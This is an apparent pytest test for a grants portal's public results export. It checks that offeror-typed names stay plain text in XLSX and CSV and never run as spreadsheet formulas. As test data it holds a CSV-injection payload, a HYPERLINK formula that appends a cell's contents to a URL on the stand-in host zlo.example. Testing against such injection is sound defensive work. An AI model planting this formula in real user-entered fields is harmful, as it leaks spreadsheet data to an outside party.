"""The results for BIP and the committee's ranking as CSV and XLSX: a typed-in text never becomes a formula.

The offeror's name and the task's title are typed by the offeror; a spreadsheet opening the public results
must show them as text, not run "=HYPERLINK(…)" (CSV injection, OWASP).
"""

import io

from openpyxl import load_workbook

from grants.models import GrantOffer

FORMULA = '=HYPERLINK("https://zlo.example/?"&A1;"Kliknij")'


def test_the_public_results_keep_typed_in_texts_as_text(client, granted_offer):
    GrantOffer.objects.filter(pk=granted_offer.pk).update(organisation_name=FORMULA, title="+48 600 100 200")
    response = client.get("/dotacje/wyniki.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    # Typed as text: the cell shows exactly what was typed, no apostrophe, and never runs.
    assert row[2].data_type == "s"
    assert row[2].value == FORMULA
    assert row[3].data_type == "s"
    assert row[3].value == "+48 600 100 200"
    assert row[4].value == 4000  # amounts stay numbers
    text = client.get("/dotacje/wyniki.csv").content.decode("utf-8-sig")
    # The house CSV dialect (RFC 4180, as every open-data file of the portal): comma, dot in numbers.
    assert ",'=HYPERLINK(" in text.replace('"', "")
    assert ",=HYPERLINK(" not in text.replace('"', "")
    assert ",4000.00" in text
